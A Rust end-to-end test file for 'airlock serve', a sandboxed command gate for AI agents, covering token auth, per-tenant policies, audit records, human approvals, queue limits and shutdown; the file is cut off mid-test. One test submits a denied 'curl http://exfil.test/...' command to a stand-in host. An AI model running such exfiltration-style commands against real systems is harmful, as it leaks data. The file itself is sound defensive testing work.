//! `airlock serve` end to end: the real binary, the real engine and sandbox,
//! a real HTTP client over the unix socket and loopback TCP.

mod serve_support;

use serve_support::*;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

#[test]
fn socket_is_private_and_openapi_matches_the_repository_file() {
    let mut server = Server::start(&["--tokens", "tokens.toml", "--socket", "state/airlock.sock"]);
    let mode = std::fs::metadata(&server.socket)
        .unwrap()
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600, "socket mode");
    rt().block_on(async {
        let s = Target::Unix(&server.socket);
        let health = request(s, "GET", "/healthz", None, None).await;
        assert_eq!(health.status, 200);
        assert_eq!(health.json()["status"], "ok");
        let served = request(
            Target::Unix(&server.socket),
            "GET",
            "/openapi.json",
            None,
            None,
        )
        .await;
        assert_eq!(served.status, 200);
        let file =
            std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/../../openapi.json")).unwrap();
        assert_eq!(
            served.body, file,
            "served /openapi.json differs from the repository's openapi.json"
        );
    });

    let (status, err) = server.stop();
    assert!(status.success(), "{err}");
}

#[test]
fn tokens_authenticate_and_each_token_has_its_own_policy() {
    let mut server = Server::start(&["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let sock = &server.socket;
        let body = r#"{"command":"cat data.csv"}"#;
        // No token, a wrong token, another scheme: 401 with a JSON error.
        for token in [None, Some("not-a-real-token-000000")] {
            let r = request(Target::Unix(sock), "POST", "/v1/check", token, Some(body)).await;
            assert_eq!(r.status, 401);
            assert_eq!(r.json()["code"], "unauthorized");
            assert!(r.headers.contains_key("www-authenticate"));
        }
        // The same command: allowed for agent-a, denied for agent-b.
        let a = post(sock, "/v1/run", Some(TOKEN_A), body).await;
        assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
        let a = a.json();
        assert_eq!(a["decision"], "allow");
        assert_eq!(a["status"], "ran");
        assert_eq!(a["caller"], "agent-a");
        assert_eq!(a["outcome"]["stdout"], "name,qty\napple,3\npear,5\n");
        assert_eq!(a["backend"], "native");
        let b = post(sock, "/v1/run", Some(TOKEN_B), body).await.json();
        assert_eq!(b["decision"], "deny");
        assert_eq!(b["status"], "denied");
        assert!(b["outcome"].is_null());
        assert!(b["backend"].is_null(), "nothing ran: {b}");
        // The audit log names each caller by its token's name, and the denied
        // request has a decision record and no execution record.
        let records = audit_records(&server.state());
        let who = |rid: &serde_json::Value, kind: &str| {
            records
                .iter()
                .filter(|r| r["request_id"] == *rid && r["kind"] == kind)
                .map(|r| r["who"].clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            who(&a["request_id"], "execution"),
            vec![serde_json::json!({"name": "agent-a", "kind": "token"})]
        );
        assert_eq!(
            who(&b["request_id"], "decision"),
            vec![serde_json::json!({"name": "agent-b", "kind": "token"})]
        );
        assert!(who(&b["request_id"], "execution").is_empty());
        // A run is visible to its owner only.
        let path = format!("/v1/runs/{}", a["request_id"].as_str().unwrap());
        let mine = get(sock, &path, Some(TOKEN_A)).await;
        assert_eq!(mine.status, 200);
        assert_eq!(mine.json()["outcome"]["stdout"], a["outcome"]["stdout"]);
        let theirs = get(sock, &path, Some(TOKEN_B)).await;
        assert_eq!(theirs.status, 404);
        assert_eq!(theirs.json()["code"], "not_found");
        // GET /v1/audit: an agent sees only its own records.
        let audit_b = get(sock, "/v1/audit?limit=1000", Some(TOKEN_B))
            .await
            .json();
        let recs = audit_b["records"].as_array().unwrap();
        assert!(!recs.is_empty());
        assert!(
            recs.iter().all(|r| r["who"]["name"] == "agent-b"),
            "{recs:?}"
        );
        let denied = get(
            sock,
            "/v1/audit?decision=deny&caller=agent-b",
            Some(TOKEN_HUMAN),
        )
        .await
        .json();
        assert_eq!(denied["records"].as_array().unwrap().len(), 1);
        let forbidden = get(sock, "/v1/audit?caller=agent-a", Some(TOKEN_B)).await;
        assert_eq!(forbidden.status, 403);
    });
    server.stop();
}

#[test]
fn each_tenant_runs_on_the_backend_its_policy_names() {
    // agent-b's policy names the OCI backend (crun here); agent-a's none, so native.
    let oci_here = rustix::process::geteuid().is_root()
        && ["/usr/bin/crun", "/usr/sbin/runc", "/usr/bin/runc"]
            .iter()
            .any(|p| std::path::Path::new(p).exists());
    if !oci_here {
        eprintln!("skipped: the OCI backend needs root and crun or runc on this host");
        return;
    }
    let dir = layout();
    let policy_b = format!("{POLICY_A}[sandbox]\nbackend = \"oci\"\n");
    std::fs::write(dir.path().join("policy-b.toml"), policy_b).unwrap();
    let mut server = Server::start_in(dir, &["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let sock = &server.socket;
        let body = r#"{"command":"cat data.csv"}"#;
        let mut ids = Vec::new();
        for token in [TOKEN_A, TOKEN_B] {
            let r = post(sock, "/v1/run", Some(token), body).await;
            assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
            let r = r.json();
            assert_eq!(r["status"], "ran", "{r}");
            assert_eq!(r["outcome"]["stdout"], "name,qty\napple,3\npear,5\n");
            ids.push(r["request_id"].clone());
        }
        let records = audit_records(&server.state());
        let backend_of = |rid: &serde_json::Value| {
            records
                .iter()
                .find(|r| r["request_id"] == *rid && r["kind"] == "execution")
                .map(|r| r["backend"].clone())
        };
        assert_eq!(backend_of(&ids[0]), Some(serde_json::json!("native")));
        assert_eq!(backend_of(&ids[1]), Some(serde_json::json!("oci")));
    });
    server.stop();
}

#[test]
fn loopback_tcp_works_and_non_loopback_is_refused() {
    let port = free_port();
    let addr = format!("127.0.0.1:{port}");
    let mut server = Server::start(&["--tokens", "tokens.toml", "--listen", &addr]);
    rt().block_on(async {
        let r = request(
            Target::Tcp(&addr),
            "POST",
            "/v1/check",
            Some(TOKEN_A),
            Some(r#"{"command":"ls"}"#),
        )
        .await;
        assert_eq!(r.status, 200);
        assert_eq!(r.json()["decision"], "allow");
        let r = request(
            Target::Tcp(&addr),
            "POST",
            "/v1/check",
            None,
            Some(r#"{"command":"ls"}"#),
        )
        .await;
        assert_eq!(r.status, 401);
    });
    server.stop();

    let dir = layout();
    for extra in [
        vec!["--listen", "0.0.0.0:0"],
        vec!["--listen", "0.0.0.0:0", "--allow-remote"],
    ] {
        let out = std::process::Command::new(bin())
            .arg("serve")
            .args(["--tokens", "tokens.toml"])
            .args(&extra)
            .current_dir(dir.path())
            .env("AIRLOCK_STATE_DIR", dir.path().join("state"))
            .output()
            .unwrap();
        assert!(!out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("refusing to listen on non-loopback address"),
            "{err}"
        );
        assert!(
            !dir.path().join("state/airlock.sock").exists(),
            "nothing may be left listening"
        );
    }
    // TCP without tokens is refused: any local user could reach the port.
    let out = std::process::Command::new(bin())
        .args(["serve", "--listen", "127.0.0.1:0"])
        .current_dir(dir.path())
        .env("AIRLOCK_STATE_DIR", dir.path().join("state"))
        .env_remove("AIRLOCK_TOKENS")
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--listen needs --tokens"));
}

#[test]
fn bad_input_gets_stable_error_codes_and_runs_nothing() {
    let mut server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--max-body",
        "4096",
        "--max-command",
        "100",
        "--max-code",
        "200",
    ]);
    rt().block_on(async {
        let sock = &server.socket;
        let cases: Vec<(String, u16, &str)> = vec![
            ("{not json".into(), 400, "invalid_json"),
            (r#"{"comand":"ls"}"#.into(), 400, "bad_request"),
            (
                r#"{"command":"ls","code":"print(1)"}"#.into(),
                400,
                "bad_request",
            ),
            (r#"{}"#.into(), 400, "bad_request"),
            (r#"{"command":"   "}"#.into(), 400, "bad_request"),
            // A folder of the workspace that is not there (schemathesis found
            // this as a 500 from the sandbox's chdir).
            (r#"{"code":"print(1)","cwd":"'"}"#.into(), 404, "not_found"),
            (
                r#"{"command":"ls","cwd":"no/such/dir"}"#.into(),
                404,
                "not_found",
            ),
            (
                r#"{"command":"ls","timeout_s":0}"#.into(),
                400,
                "bad_request",
            ),
            // Longer than the policy's limits.timeout: refused, not shortened
            // behind the caller's back.
            (
                r#"{"command":"ls","timeout_s":100000}"#.into(),
                403,
                "timeout_above_policy",
            ),
            (
                r#"{"code":"puts 1","language":"ruby"}"#.into(),
                400,
                "unsupported_language",
            ),
            (
                format!(r#"{{"command":"echo {}"}}"#, "x".repeat(200)),
                413,
                "command_too_large",
            ),
            (
                format!(r#"{{"code":"print('{}')"}}"#, "x".repeat(300)),
                413,
                "code_too_large",
            ),
            (
                format!(r#"{{"command":"echo {}"}}"#, "x".repeat(5000)),
                413,
                "payload_too_large",
            ),
        ];
        for (body, status, code) in cases {
            let r = post(sock, "/v1/run", Some(TOKEN_A), &body).await;
            assert_eq!(
                r.status,
                status,
                "{body}: {}",
                String::from_utf8_lossy(&r.body)
            );
            assert_eq!(r.json()["code"], code, "{body}");
            assert!(r.json()["message"].as_str().is_some_and(|m| !m.is_empty()));
        }
        let r = post(
            sock,
            "/v1/run",
            Some(TOKEN_A),
            r#"{"command":"ls","timeout_s":100000}"#,
        )
        .await;
        let message = r.json()["message"].as_str().unwrap_or_default().to_string();
        assert!(message.contains("limits.timeout = "), "{message}");
        let r = get(sock, "/v1/nope", Some(TOKEN_A)).await;
        assert_eq!(
            (r.status, r.json()["code"].as_str().unwrap()),
            (404, "not_found")
        );
        let r = unix(sock, "DELETE", "/v1/run", Some(TOKEN_A)).await;
        assert_eq!(
            (r.status, r.json()["code"].as_str().unwrap()),
            (405, "method_not_allowed")
        );
    });
    // None of those reached the engine: the audit log holds no record.
    let records = audit_records(&server.state());
    assert!(
        records
            .iter()
            .all(|r| r["kind"] != "decision" && r["kind"] != "execution"),
        "{records:?}"
    );
    server.stop();
}

#[test]
fn streaming_sends_output_while_the_command_runs() {
    let mut server = Server::start(&["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let body = r#"{"code":"import sys, time\nprint('first', flush=True)\ntime.sleep(2)\nprint('second', flush=True)\nprint('oops', file=sys.stderr)"}"#;
        let (status, frames) = stream(&server.socket, "/v1/run/stream", TOKEN_A, body).await;
        assert_eq!(status, 200);
        let mut events = Vec::new();
        let mut buf = Vec::new();
        for (at, frame) in frames {
            buf.extend_from_slice(&frame);
            while let Some(nl) = buf.iter().position(|b| *b == b'\n') {
                let line: Vec<u8> = buf.drain(..=nl).collect();
                events.push((at, serde_json::from_slice::<serde_json::Value>(&line).unwrap()));
            }
        }
        let kinds: Vec<&str> = events.iter().map(|(_, e)| e["type"].as_str().unwrap()).collect();
        assert_eq!(kinds.last(), Some(&"result"), "{kinds:?}");
        let first = events.iter().find(|(_, e)| e["data"] == "first\n").expect("first chunk");
        let (done_at, result) = events.last().unwrap();
        // The first line reached the client while the command was still sleeping.
        assert!(done_at.duration_since(first.0) >= Duration::from_secs(1), "output was not streamed live");
        let out: String = events.iter().filter(|(_, e)| e["type"] == "stdout").map(|(_, e)| e["data"].as_str().unwrap()).collect();
        assert_eq!(out, "first\nsecond\n");
        assert!(events.iter().any(|(_, e)| e["type"] == "stderr" && e["data"] == "oops\n"));
        assert_eq!(result["result"]["outcome"]["exit_code"], 0);
        assert_eq!(result["result"]["outcome"]["stdout"], "first\nsecond\n");
    });
    server.stop();
}

/// A server with one run slot and one place in its queue, and a runtime for
/// concurrent requests to it.
fn one_slot_one_queue() -> (Server, tokio::runtime::Runtime) {
    let server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--concurrency",
        "1",
        "--queue",
        "1",
    ]);
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    (server, rt)
}

/// Waits (up to 10 s) until `/healthz` reports `value` under `key`.
async fn until_health(sock: &std::path::Path, key: &str, value: u64) {
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let health = get(sock, "/healthz", None).await.json();
        if health[key] == value {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "/healthz never said {key} = {value}: {health}"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

#[test]
fn past_the_queue_the_server_answers_429_with_retry_after() {
    let (mut server, rt) = one_slot_one_queue();
    rt.block_on(async {
        let sock = server.socket.clone();
        let slow = r#"{"command":"sleep 2"}"#;
        let first = tokio::spawn({
            let sock = sock.clone();
            async move {
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/run",
                    Some(TOKEN_A),
                    Some(slow),
                )
                .await
            }
        });
        until_health(&sock, "running", 1).await;
        let second = tokio::spawn({
            let sock = sock.clone();
            async move {
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/run",
                    Some(TOKEN_A),
                    Some(slow),
                )
                .await
            }
        });
        until_health(&sock, "queued", 1).await;
        let third = request(
            Target::Unix(&sock),
            "POST",
            "/v1/run",
            Some(TOKEN_A),
            Some(slow),
        )
        .await;
        assert_eq!(third.status, 429);
        assert_eq!(third.json()["code"], "queue_full");
        assert_eq!(third.headers.get("retry-after").unwrap(), "1");
        let stream429 = request(
            Target::Unix(&sock),
            "POST",
            "/v1/run/stream",
            Some(TOKEN_A),
            Some(slow),
        )
        .await;
        assert_eq!(stream429.status, 429);
        assert_eq!(first.await.unwrap().json()["outcome"]["exit_code"], 0);
        assert_eq!(second.await.unwrap().json()["outcome"]["exit_code"], 0);
        let metrics = request(Target::Unix(&sock), "GET", "/metrics", Some(TOKEN_A), None).await;
        let text = String::from_utf8(metrics.body).unwrap();
        assert!(
            text.contains("airlock_rejected_total{reason=\"queue_full\"} 2"),
            "{text}"
        );
        assert!(
            text.contains("airlock_runs_total{ended=\"success\"} 2"),
            "{text}"
        );
        assert!(text.contains("airlock_queue_depth 0"), "{text}");
    });
    server.stop();
}

/// A client that leaves while its run waits in the queue: the request never
/// runs, and its decision (a denial here) is still on record, as
/// `abandoned`.
#[test]
fn a_run_abandoned_in_the_queue_is_on_record() {
    let (mut server, rt) = one_slot_one_queue();
    rt.block_on(async {
        let sock = server.socket.clone();
        let first = tokio::spawn({
            let sock = sock.clone();
            async move {
                let body = r#"{"command":"sleep 2"}"#;
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/run",
                    Some(TOKEN_A),
                    Some(body),
                )
                .await
            }
        });
        until_health(&sock, "running", 1).await;
        let queued = tokio::spawn({
            let sock = sock.clone();
            async move {
                let body = r#"{"command":"curl http://exfil.test/abandoned-marker"}"#;
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/run",
                    Some(TOKEN_A),
                    Some(body),
                )
                .await
            }
        });
        until_health(&sock, "queued", 1).await;
        // The client goes away: its connection closes.
        queued.abort();
        let _ = queued.await;
        until_health(&sock, "queued", 0).await;
        assert_eq!(first.await.unwrap().json()["outcome"]["exit_code"], 0);
    });
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    let abandoned = loop {
        let found: Vec<_> = audit_records(&server.state())
            .into_iter()
            .filter(|r| r.to_string().contains("abandoned-marker"))
            .collect();
        if !found.is_empty() || std::time::Instant::now() > deadline {
            break found;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(abandoned.len(), 1, "{abandoned:?}");
    let record = abandoned[0].to_string();
    assert!(record.contains("\"disposition\":\"abandoned\""), "{record}");
    assert!(record.contains("\"decision\":\"deny\""), "{record}");
    let rid = &abandoned[0]["request_id"];
    let of_it = audit_records(&server.state())
        .into_iter()
        .filter(|r| r["request_id"] == *rid)
        .count();
    assert_eq!(
        of_it, 1,
        "something besides the decision was recorded for {rid}"
    );
    server.stop();
}

#[test]
fn timeouts_are_kills_with_a_reason_and_are_counted() {
    let mut server = Server::start(&["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let r = request(
            Target::Unix(&server.socket),
            "POST",
            "/v1/run",
            Some(TOKEN_A),
            Some(r#"{"command":"sleep 10","timeout_s":0.5}"#),
        )
        .await
        .json();
        assert_eq!(r["outcome"]["killed_by"], "timeout", "{r}");
        let m = request(
            Target::Unix(&server.socket),
            "GET",
            "/metrics",
            Some(TOKEN_A),
            None,
        )
        .await;
        let text = String::from_utf8(m.body).unwrap();
        assert!(
            text.contains("airlock_kills_total{reason=\"timeout\"} 1"),
            "{text}"
        );
        assert!(
            text.contains(
                "airlock_request_duration_seconds_bucket{endpoint=\"run\",le=\"+Inf\"} 1"
            ),
            "{text}"
        );
    });
    server.stop();
}

#[test]
fn approvals_need_a_person_and_run_once() {
    let mut server = Server::start(&["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let sock = &server.socket;
        let body = r#"{"command":"touch approved.txt"}"#;
        let r = post(sock, "/v1/run", Some(TOKEN_A), body).await.json();
        assert_eq!(r["status"], "approval_pending", "{r}");
        assert!(r["outcome"].is_null());
        let id = r["approval"]["id"].as_str().unwrap().to_string();
        // The agent sees its approval but may not answer it.
        let list = get(sock, "/v1/approvals?status=pending", Some(TOKEN_A))
            .await
            .json();
        assert_eq!(list["approvals"][0]["id"], id.as_str());
        let theirs = get(sock, &format!("/v1/approvals/{id}"), Some(TOKEN_B)).await;
        assert_eq!(theirs.status, 404);
        let self_approve = unix(
            sock,
            "POST",
            &format!("/v1/approvals/{id}/approve"),
            Some(TOKEN_A),
        )
        .await;
        assert_eq!(self_approve.status, 403);
        assert_eq!(self_approve.json()["code"], "forbidden");
        let ok = post(
            sock,
            &format!("/v1/approvals/{id}/approve"),
            Some(TOKEN_HUMAN),
            r#"{"note":"fine"}"#,
        )
        .await;
        assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
        assert_eq!(ok.json()["status"], "approved");
        let again = unix(
            sock,
            "POST",
            &format!("/v1/approvals/{id}/deny"),
            Some(TOKEN_HUMAN),
        )
        .await;
        assert_eq!(again.status, 409);
        // Finding 1: a second token under the same policy presents the approved
        // id. Refused as another tenant's, nothing runs, and the approval stays
        // unspent for agent-a.
        let with = format!(r#"{{"command":"touch approved.txt","approval_id":"{id}"}}"#);
        let stolen = post(sock, "/v1/run", Some(TOKEN_C), &with).await.json();
        assert_eq!(stolen["status"], "approval_refused", "{stolen}");
        assert_eq!(stolen["refusal"]["code"], "other_tenant", "{stolen}");
        assert!(
            stolen["outcome"].is_null() && stolen["approval"].is_null(),
            "{stolen}"
        );
        let peek = get(sock, &format!("/v1/approvals/{id}"), Some(TOKEN_C)).await;
        assert_eq!(peek.status, 404);
        // An approver answers only for the tenants it is configured for: human
        // answers for agent-a and agent-b, not agent-c.
        let c_pending = post(sock, "/v1/run", Some(TOKEN_C), body).await.json();
        let c_id = c_pending["approval"]["id"].as_str().unwrap().to_string();
        let not_yours = unix(
            sock,
            "POST",
            &format!("/v1/approvals/{c_id}/approve"),
            Some(TOKEN_HUMAN),
        )
        .await;
        assert_eq!(
            not_yours.status,
            404,
            "{}",
            String::from_utf8_lossy(&not_yours.body)
        );
        let listed = get(sock, "/v1/approvals", Some(TOKEN_HUMAN)).await.json();
        assert!(listed["approvals"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a["id"] != c_id.as_str()));
        // GET endpoints never show another tenant's objects: agent-c's audit
        // view holds its own refused decision and nothing of agent-a's.
        let seen = get(sock, "/v1/audit?limit=1000", Some(TOKEN_C))
            .await
            .json();
        let seen = seen["records"].as_array().unwrap();
        assert!(!seen.is_empty());
        assert!(
            seen.iter().all(|r| r["tenant"]["name"] == "agent-c"),
            "{seen:?}"
        );
        // Now it runs, once, for the same command only.
        let ran = post(sock, "/v1/run", Some(TOKEN_A), &with).await.json();
        assert_eq!(ran["status"], "ran", "{ran}");
        assert_eq!(ran["outcome"]["exit_code"], 0);
        assert!(ran["outcome"]["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["path"].as_str().unwrap().ends_with("approved.txt")));
        let replay = post(sock, "/v1/run", Some(TOKEN_A), &with).await.json();
        assert_eq!(replay["status"], "approval_refused", "{replay}");
        assert!(replay["outcome"].is_null());
        let missing = get(sock, "/v1/approvals/ap-000000000000", Some(TOKEN_HUMAN)).await;
        assert_eq!(missing.status, 404);
    });
    server.stop();
}

/// An approval covers the stdin it was asked with: the person sees it (its
/// hash, length and a preview), and a run under the approval with other stdin,
/// or with stdin where none was asked, is refused and runs nothing.
#[test]
fn an_approval_covers_the_exact_stdin_it_was_asked_with() {
    let mut server = Server::start(&["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let sock = &server.socket;
        let post = |token: &'static str, body: String| async move {
            post(sock, "/v1/run", Some(token), &body).await.json()
        };
        let asked = post(
            TOKEN_A,
            r#"{"command":"touch approved.txt","stdin":"build\n"}"#.into(),
        )
        .await;
        assert_eq!(asked["status"], "approval_pending", "{asked}");
        let id = asked["approval"]["id"].as_str().unwrap().to_string();
        let shown = get(sock, &format!("/v1/approvals/{id}"), Some(TOKEN_HUMAN))
            .await
            .json();
        assert_eq!(shown["stdin"]["bytes"], 6, "{shown}");
        assert_eq!(shown["stdin"]["preview"], "build\n", "{shown}");
        assert!(
            shown["stdin"]["sha256"]
                .as_str()
                .unwrap()
                .starts_with("sha256:"),
            "{shown}"
        );
        let ok = unix(
            sock,
            "POST",
            &format!("/v1/approvals/{id}/approve"),
            Some(TOKEN_HUMAN),
        )
        .await;
        assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
        for other in [r#","stdin":"src a.txt\n""#, "", r#","stdin":"build\n\n""#] {
            let body = format!(r#"{{"command":"touch approved.txt","approval_id":"{id}"{other}}}"#);
            let refused = post(TOKEN_A, body).await;
            assert_eq!(refused["status"], "approval_refused", "{other}: {refused}");
            assert_eq!(refused["refusal"]["code"], "stdin_changed", "{refused}");
            assert!(
                refused["refusal"]["message"]
                    .as_str()
                    .unwrap()
                    .contains("stdin"),
                "{refused}"
            );
            if other.is_empty() {
                let message = refused["refusal"]["message"].as_str().unwrap();
                assert!(
                    message.contains("with 6 bytes of stdin") && message.contains("sends no stdin"),
                    "{message}"
                );
            }
            assert!(refused["outcome"].is_null(), "{refused}");
        }
        assert!(!server.ws().join("approved.txt").exists());
        // The refusals left it unspent: the same stdin runs, once.
        let ran = post(
            TOKEN_A,
            format!(r#"{{"command":"touch approved.txt","approval_id":"{id}","stdin":"build\n"}}"#),
        )
        .await;
        assert_eq!(ran["status"], "ran", "{ran}");
        // An approval asked without stdin is not one for stdin.
        let bare = post(TOKEN_A, r#"{"command":"touch approved.txt"}"#.into()).await;
        let bare_id = bare["approval"]["id"].as_str().unwrap().to_string();
        let shown = get(sock, &format!("/v1/approvals/{bare_id}"), Some(TOKEN_HUMAN))
            .await
            .json();
        assert!(shown.get("stdin").is_none(), "{shown}");
        unix(
            sock,
            "POST",
            &format!("/v1/approvals/{bare_id}/approve"),
            Some(TOKEN_HUMAN),
        )
        .await;
        let added = post(
            TOKEN_A,
            format!(r#"{{"command":"touch approved.txt","approval_id":"{bare_id}","stdin":"x"}}"#),
        )
        .await;
        assert_eq!(added["refusal"]["code"], "stdin_changed", "{added}");
    });
    server.stop();
}

#[test]
fn grants_are_for_approvers_only() {
    let mut server = Server::start(&["--tokens", "tokens.toml"]);
    rt().block_on(async {
        let sock = &server.socket;
        let extra = server.dir.path().join("shared-out");
        std::fs::create_dir_all(&extra).unwrap();
        let body = format!(r#"{{"boundary":{{"type":"write","paths":["{}"]}},"for":"python3 etl.py","ttl_s":600,"uses":1}}"#, extra.display());
        let denied = post(sock, "/v1/grants", Some(TOKEN_A), &body).await;
        assert_eq!(denied.status, 403);
        // A grant is for one tenant, under that tenant's policy; the approver
        // must answer for it.
        let for_a = body.replacen('{', r#"{"tenant":"agent-a","#, 1);
        let created = post(sock, "/v1/grants", Some(TOKEN_HUMAN), &for_a).await;
        assert_eq!(created.status, 201, "{}", String::from_utf8_lossy(&created.body));
        let grant = created.json();
        assert_eq!(grant["tenant"], serde_json::json!({"kind": "token", "name": "agent-a"}));
        assert_eq!(grant["policy_sha256"].as_str().unwrap().len(), 64);
        let id = grant["id"].as_str().unwrap().to_string();
        let for_c = body.replacen('{', r#"{"tenant":"agent-c","#, 1);
        let outside = post(sock, "/v1/grants", Some(TOKEN_HUMAN), &for_c).await;
        assert_eq!(outside.status, 403, "human answers for agent-a and agent-b only");
        let list = get(sock, "/v1/grants", Some(TOKEN_HUMAN)).await.json();
        let listed = list["grants"].as_array().unwrap().iter().find(|g| g["id"] == id.as_str()).cloned().unwrap();
        assert_eq!(listed["state"], "active");
        // Each agent sees its own grants and no other tenant's.
        let mine = get(sock, "/v1/grants", Some(TOKEN_A)).await.json();
        assert!(mine["grants"].as_array().unwrap().iter().any(|g| g["id"] == id.as_str()));
        let theirs = get(sock, "/v1/grants", Some(TOKEN_C)).await.json();
        assert!(theirs["grants"].as_array().unwrap().is_empty(), "{theirs}");
        let revoke_other = unix(sock, "DELETE", &format!("/v1/grants/{id}"), Some(TOKEN_C)).await;
        assert_eq!(revoke_other.status, 403);
        let revoked = unix(sock, "DELETE", &format!("/v1/grants/{id}"), Some(TOKEN_HUMAN)).await;
        assert_eq!(revoked.status, 200);
        let twice = unix(sock, "DELETE", &format!("/v1/grants/{id}"), Some(TOKEN_HUMAN)).await;
        assert_eq!(twice.status, 409);
        let bad = post(sock, "/v1/grants", Some(TOKEN_HUMAN), r#"{"boundary":{"type":"write","paths":["relative"]},"for":"x","ttl_s":60}"#).await;
        assert_eq!(bad.status, 400);
        assert_eq!(bad.json()["code"], "bad_request");
    });
    server.stop();
}

#[test]
fn sigterm_drains_then_kills_and_leaves_nothing_behind() {
    // No warm pool: its idle helpers are children of the server too, and
    // this counts the running sandboxes' helpers (serve_pool.rs checks that
    // shutdown tears the pool down).
    let mut server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--shutdown-grace",
        "1",
        "--pool",
        "0",
    ]);
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let server_pid = server.child.id();
    let (long, short, status, err) = rt.block_on(async {
        let sock = server.socket.clone();
        let long = tokio::spawn({
            let sock = sock.clone();
            async move {
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/run",
                    Some(TOKEN_A),
                    Some(r#"{"command":"sleep 60"}"#),
                )
                .await
            }
        });
        let short = tokio::spawn({
            let sock = sock.clone();
            async move {
                request(
                    Target::Unix(&sock),
                    "POST",
                    "/v1/run",
                    Some(TOKEN_A),
                    Some(r#"{"command":"sleep 0.5; echo finished"}"#),
                )
                .await
            }
        });
        while request(Target::Unix(&sock), "GET", "/healthz", None, None)
            .await
            .json()["running"]
            != 2
        {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        // A slot is taken just before the helper is started: wait for both.
        let deadline = Instant::now() + Duration::from_secs(10);
        let helpers = loop {
            let helpers = children_of(server_pid);
            if helpers.len() == 2 || Instant::now() > deadline {
                break helpers;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        };
        assert_eq!(helpers.len(), 2, "two sandbox helpers expected");
        let started = Instant::now();
        let (status, err) = tokio::task::block_in_place(|| server.stop());
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "drain took too long"
        );
        for pid in helpers {
            assert!(
                !std::path::Path::new(&format!("/proc/{pid}")).exists(),
                "helper {pid} outlived the server"
            );
        }
        (long.await.unwrap(), short.await.unwrap(), status, err)
    });
    assert!(status.success(), "{err}");
    assert!(err.contains("killing them"), "{err}");
    // The short run finished inside the grace period with its output.
    assert_eq!(short.json()["outcome"]["stdout"], "finished\n");
    // The long one was killed at the deadline and still got an answer.
    let long = long.json();
    assert_eq!(long["outcome"]["signal"], 9, "{long}");
    // Nothing left behind: no socket, no per-run directory (the backend's
    // dot-named shared layout may stay), no mount under the state dir.
    assert!(!server.socket.exists(), "socket left behind");
    let runs: Vec<_> = std::fs::read_dir(server.state().join("runs"))
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    let per_run: Vec<_> = runs
        .iter()
        .filter(|p| !p.file_name().unwrap().to_string_lossy().starts_with('.'))
        .collect();
    assert!(per_run.is_empty(), "left behind: {per_run:?}");
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let state = server.state().display().to_string();
    assert!(!mounts.contains(&state), "a mount under {state} was left");
}

#[test]
fn configured_languages_run_through_the_gate_as_argv() {
    let mut server = Server::start(&[
        "--tokens",
        "tokens.toml",
        "--language",
        "python",
        "--language",
        "py=python3,-c",
    ]);
    rt().block_on(async {
        let sock = &server.socket;
        let r = post(
            sock,
            "/v1/run",
            Some(TOKEN_A),
            r#"{"code":"print(40+2)","language":"py"}"#,
        )
        .await
        .json();
        assert_eq!(r["outcome"]["stdout"], "42\n", "{r}");
        assert_eq!(r["segments"][0]["argv"][0], "python3");
        // bash was not enabled on this server.
        let r = post(
            sock,
            "/v1/run",
            Some(TOKEN_A),
            r#"{"code":"echo x","language":"bash"}"#,
        )
        .await;
        assert_eq!(r.status, 400);
        assert_eq!(r.json()["code"], "unsupported_language");
        // agent-b's policy has no python3: the configured language gets no pass.
        let r = post(
            sock,
            "/v1/run",
            Some(TOKEN_B),
            r#"{"code":"print(1)","language":"py"}"#,
        )
        .await
        .json();
        assert_eq!(r["decision"], "deny", "{r}");
    });
    server.stop();
}

#[test]
fn refuses_to_serve_a_workspace_that_holds_its_secrets() {
    let dir = layout();
    // The tokens file sits inside the workspace that agent-a's policy opens.
    std::fs::write(
        dir.path().join("policy-wide.toml"),
        POLICY_A.replace("root = \"ws\"", "root = \".\""),
    )
    .unwrap();
    let tokens = std::fs::read_to_string(dir.path().join("tokens.toml"))
        .unwrap()
        .replace("policy-a.toml", "policy-wide.toml");
    std::fs::write(dir.path().join("tokens.toml"), tokens).unwrap();
    let out = std::process::Command::new(bin())
